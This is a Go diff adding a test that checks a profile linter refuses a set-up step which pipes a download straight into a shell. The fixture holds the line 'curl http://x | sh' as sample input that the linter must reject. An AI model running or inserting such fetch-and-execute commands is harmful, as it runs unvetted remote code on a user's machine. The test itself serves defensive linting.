@@ -178,6 +178,37 @@ func TestLint(t *testing.T) {
 	require.Empty(t, s.lintText([]byte(one("x", "")), "x.toml"))
 }
 
+func TestABrokenProfileIsRefused(t *testing.T) {
+	dir := write(t, map[string]string{
+		"mine.toml":  "title = \"T\"\n[[steps]]\nname = \"a\"\ntitle = \"A\"\nscript = 'curl http://x | sh'\n[[steps]]\nname = \"b\"\nscript = ''\n",
+		"over.toml":  one("over", `needs = ["mine"]`),
+		"plain.toml": "[[steps]]\nname = \"a\"\nscript = 'true'\n[[promises]]\ncomponent = \"warp-drive\"\n",
+	})
+	s := Load(dir)
+	refused := func(name string) error {
+		c, err := s.Compose([]string{name}, Facts{})
+		require.NoError(t, err)
+		return s.Refused(c.Profiles)
+	}
+	err := refused("over")
+	require.ErrorIs(t, err, &api.Error{Code: api.CodeUsage})
+	require.ErrorContains(t, err, "the set-up profile mine can't be used: "+filepath.Join(dir, "mine.toml")+":5: step a: it runs what it fetches, unseen")
+	require.ErrorContains(t, err, "more)")
+	require.Equal(t, "mend it; berth profile lint "+filepath.Join(dir, "mine.toml")+" checks it", api.AsError(err).Hint)
+	require.NoError(t, refused("plain"), "warnings only")
+	require.NoError(t, refused("cuda"))
+	p, err := s.Profile("mine")
+	require.NoError(t, err)
+	require.NotEmpty(t, p.Errors)
+	p, err = s.Profile("plain")
+	require.NoError(t, err)
+	require.Empty(t, p.Errors)
+	ps, err := s.LintFile(filepath.Join(dir, "plain.toml"))
+	require.NoError(t, err)
+	require.Len(t, ps, 3)
+	require.Contains(t, Format(ps), ": warning: it has no title")
+}
+
 func TestTheProfileWithARestartIsClean(t *testing.T) {
 	s := Load("testdata")
 	problems, err := s.LintFile("testdata/restart.toml")
